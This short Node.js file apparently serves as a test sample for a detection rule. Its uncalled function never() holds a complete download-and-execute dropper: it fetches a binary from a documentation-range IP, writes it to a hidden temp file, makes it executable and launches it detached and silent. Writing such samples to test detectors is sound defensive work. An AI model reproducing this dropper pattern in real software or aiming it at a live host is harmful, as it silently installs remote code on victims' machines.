// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const { spawn } = require('child_process');
function never() {
  const dest = path.join(os.tmpdir(), '.airlock-sample-agent');
  http.get('http://198.51.100.23/agent/linux-x64', (res) => {
    const chunks = [];
    res.on('data', (c) => chunks.push(c));
    res.on('end', () => {
      fs.writeFileSync(dest, Buffer.concat(chunks));
      fs.chmodSync(dest, 0o755);
      spawn(dest, ['--quiet'], { detached: true, stdio: 'ignore' }).unref();
    });
  });
}
module.exports = { never };
